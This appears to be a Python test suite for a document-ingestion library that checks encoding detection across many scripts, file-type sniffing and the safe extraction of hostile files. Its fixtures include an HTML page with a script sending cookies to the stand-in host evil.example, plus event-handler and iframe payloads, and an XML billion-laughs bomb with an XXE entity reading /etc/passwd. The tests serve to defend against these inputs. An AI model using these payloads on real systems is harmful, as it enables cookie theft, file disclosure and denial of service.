"""Detection, encodings, and hostile markup: tables of bytes in, text and type out."""

from __future__ import annotations

import time

import pytest

from kashf.ingest.detect import detect
from kashf.ingest.encoding import decode
from kashf.ingest.extract import extract, one_line
from kashf.ingest.model import Limits

PERSIAN = "گزارش محرمانه: دیدار افسر با منبع در بغداد. این سند درباره‌ی ملاقات‌های پنهانی است."
# cp1256 has no Persian yeh (ی, U+06CC): Windows-era Persian text used the Arabic one (ي).
PERSIAN_CP1256 = PERSIAN.replace("ی", "ي")
ARABIC = "التقى الضابط بالمصدر في أربيل يوم الخميس وناقشا الوضع الأمني في المدينة."
FRENCH = "Café déjà vu — naïve résumé « quotes » façade, 5 €."
GERMAN = "Grüße aus München, schöne Straße"
RUSSIAN = "Привет мир, как дела? Это тест."
HEBREW = "שלום עולם זה מבחן של טקסט"


def write(tmp_path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


@pytest.mark.parametrize(
    ("text", "encoding", "expected"),
    [
        (PERSIAN, "utf-8", "utf-8"),
        (PERSIAN, "utf-8-sig", "utf-8"),
        (PERSIAN, "utf-16", "utf-16-le"),  # with BOM
        (PERSIAN, "utf-16-le", "utf-16-le"),  # without BOM
        (PERSIAN, "utf-16-be", "utf-16-be"),
        ("An English cable, plain ASCII. " * 3, "utf-16-le", "utf-16-le"),
        ("An English cable, plain ASCII. " * 3, "utf-16-be", "utf-16-be"),
        (PERSIAN, "utf-32", "utf-32-le"),
        (PERSIAN_CP1256, "cp1256", "cp1256"),
        (PERSIAN_CP1256[:25], "cp1256", "cp1256"),
        (ARABIC, "cp1256", "cp1256"),
        (ARABIC, "iso-8859-6", "iso-8859-6"),
        (FRENCH, "cp1252", "cp1252"),
        (GERMAN, "cp1252", "cp1252"),
        (GERMAN, "iso-8859-1", "cp1252"),  # the same bytes for these letters
        (RUSSIAN, "cp1251", "cp1251"),
        ("Zażółć gęślą jaźń. Proszę o spotkanie w środę w Łodzi.", "cp1250", "cp1250"),
        ("Příliš žluťoučký kůň úpěl ďábelské ódy.", "cp1250", "cp1250"),
        (HEBREW, "iso-8859-8", "cp1255"),  # cp1255 is a superset for letters
    ],
)
def test_decode_finds_the_encoding(text, encoding, expected):
    decoded, found = decode(text.encode(encoding))
    assert decoded == text
    assert found == expected


def test_decode_never_raises_on_binary_noise():
    text, encoding = decode(bytes(range(256)) * 4)
    assert isinstance(text, str) and encoding


def test_declared_charset_is_used_when_utf8_fails():
    assert decode(ARABIC.encode("iso-8859-6"), declared="ISO-8859-6-I") == (ARABIC, "iso8859-6")


@pytest.mark.parametrize(
    ("name", "data", "mime"),
    [
        ("a.txt", b"A plain cable text.\n", "text/plain"),
        ("a.pdf", b"A plain text file named .pdf\n", "text/plain"),  # the bytes win
        ("noext", b"%PDF-1.4\n%...", "application/pdf"),
        ("a.csv", b"a,b,c\n1,2,3\n", "text/csv"),
        ("a.json", b'{"a": 1}', "application/json"),
        ("page", b"<!DOCTYPE html><html><body>x</body></html>", "text/html"),
        ("frag.txt", b"<h3>Heading</h3><p>x</p>", "text/html"),
        ("a.xml", b'<?xml version="1.0"?><root><a>x</a></root>', "application/xml"),
        ("x.xml", b'<?xml version="1.0"?>\n<!-- c -->\n<html><body/></html>', "text/html"),
        ("mail", b"From: a@b.c\nTo: d@e.f\nSubject: hi\n\nbody", "message/rfc822"),
        (
            "box",
            b"From a@b.c Mon Jan 1 00:00:00 2001\nFrom: a@b.c\nSubject: x\n\nb\n",
            "application/mbox",
        ),
        ("r", b"{\\rtf1\\ansi hello}", "application/rtf"),
        ("img", b"\x89PNG\r\n\x1a\n" + bytes(20), "image/png"),
        ("img", b"\xff\xd8\xff\xe0" + bytes(20), "image/jpeg"),
        ("img", b"II*\x00" + bytes(20), "image/tiff"),
        ("img", b"RIFF\x00\x00\x00\x00WEBPVP8 ", "image/webp"),
        ("img", b"\x00\x00\x00\x18ftypheic" + bytes(8), "image/heic"),
        ("a.gz", b"\x1f\x8b\x08\x00" + bytes(20), "application/gzip"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(20), "application/x-7z-compressed"),
        ("a.rar", b"Rar!\x1a\x07\x01\x00" + bytes(20), "application/vnd.rar"),
        ("BMnotes.txt", b"BM is also how a text can start, 1 2 3\n", "text/plain"),
        ("blob.bin", bytes(range(256)), "application/octet-stream"),
        (
            "corrupt.docx",
            bytes(range(256)),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("utf16.txt", "From: a@b.c\nTo: d@e.f\n\nbody".encode("utf-16-le"), "message/rfc822"),
    ],
)
def test_detect(tmp_path, name, data, mime):
    path = write(tmp_path, name, data)
    assert detect(path, name, data[:65536], len(data)) == mime


@pytest.mark.parametrize(
    ("text", "encoding"),
    [(PERSIAN_CP1256, "cp1256"), (FRENCH, "cp1252"), (PERSIAN, "utf-16-le"), (ARABIC, "utf-8")],
)
def test_text_files_come_out_decoded(tmp_path, text, encoding):
    path = write(tmp_path, "doc.txt", ((text + "\n") * 5).encode(encoding))
    result = extract(path, "doc.txt", Limits())
    assert result.error is None and result.kind == "text"
    assert result.text == (text + "\n") * 5
    assert result.metadata["encoding"] == encoding


HOSTILE = b"""<!DOCTYPE html><html><head><title>Report &amp; notes</title>
<script>fetch('http://evil.example/'+document.cookie)</script>
<style>body { background: url(http://tracker.example/pixel.png) }</style>
<link rel="stylesheet" href="http://evil.example/x.css">
<meta name="author" content="Desk Officer"></head>
<body onload="steal()"><h1>Visible heading</h1>
<p>First <b>para</b>graph <a href="javascript:alert(1)">with a link</a>.</p>
<img src="x" onerror="alert('pwned')"><!-- a hidden comment -->
<iframe src="http://evil.example/frame"></iframe><noscript>enable js</noscript>
<svg><script>alert(2)</script><text>svg text</text></svg>
<table><tr><td>cell one</td><td>cell two</td></tr></table>
<pre>  kept   spacing
line two</pre>
<object data="http://evil.example/x.swf">fallback</object><template><p>template</p></template>
</body></html>"""


def test_hostile_html_yields_only_visible_text(tmp_path):
    result = extract(write(tmp_path, "page.html", HOSTILE), "page.html", Limits())
    assert result.error is None and result.kind == "html"
    assert result.title == "Report & notes"
    assert result.metadata["author"] == "Desk Officer"
    assert result.text == (
        "Visible heading\nFirst paragraph with a link.\ncell one cell two\n"
        "  kept   spacing\nline two"
    )
    for bad in (
        "fetch",
        "evil",
        "tracker",
        "alert",
        "steal",
        "comment",
        "enable js",
        "svg text",
        "fallback",
        "template",
        "javascript",
    ):
        assert bad not in result.text


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
 <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<lolz><a>before &lol9; after</a><b>&xxe;</b></lolz>"""


def test_xml_entities_never_expand(tmp_path):
    started = time.perf_counter()
    result = extract(write(tmp_path, "bomb.xml", BILLION_LAUGHS), "bomb.xml", Limits())
    assert time.perf_counter() - started < 1
    assert result.error is None and result.kind == "xml"
    assert "lol" not in result.text and "root:" not in result.text
    assert result.text == "before after"


def test_text_beyond_the_limit_is_cut_and_flagged(tmp_path):
    path = write(tmp_path, "long.txt", b"word " * 1000)
    result = extract(path, "long.txt", Limits(max_text_chars=100))
    assert len(result.text) == 100 and result.metadata["text_truncated"] is True


def test_huge_text_files_are_read_only_as_far_as_the_limit(tmp_path):
    path = write(tmp_path, "huge.log", b"0123456789" * 100_000)  # 1 MB, past the 64 KiB head
    result = extract(path, "huge.log", Limits(max_text_chars=1000))
    assert result.text == "0123456789" * 100 and result.metadata["text_truncated"] is True


@pytest.mark.parametrize(
    ("reason", "expected"),
    [
        ("line one\nline two", "line one line two"),
        ("", "unknown error"),
        ("x" * 500, "x" * 199 + "…"),
    ],
)
def test_reasons_are_one_short_line(reason, expected):
    assert one_line(reason) == expected


def test_unknown_binary_is_ok_with_a_note(tmp_path):
    result = extract(
        write(tmp_path, "drawing.dwg", bytes(range(256)) * 10), "drawing.dwg", Limits()
    )
    assert result.error is None and result.kind == "other" and result.text == ""
    assert "no ingestor" in result.metadata["note"]


def test_unreadable_path_is_a_failure_not_an_exception(tmp_path):
    result = extract(str(tmp_path / "missing.txt"), "missing.txt", Limits())
    assert result.error.startswith("the file cannot be read")


def test_files_over_the_size_limit_are_not_read(tmp_path):
    result = extract(
        write(tmp_path, "big.txt", b"x" * 2048), "big.txt", Limits(max_file_bytes=1024)
    )
    assert result.error == "file exceeds the size limit (2 KB)".replace("2 KB", "1 KB")
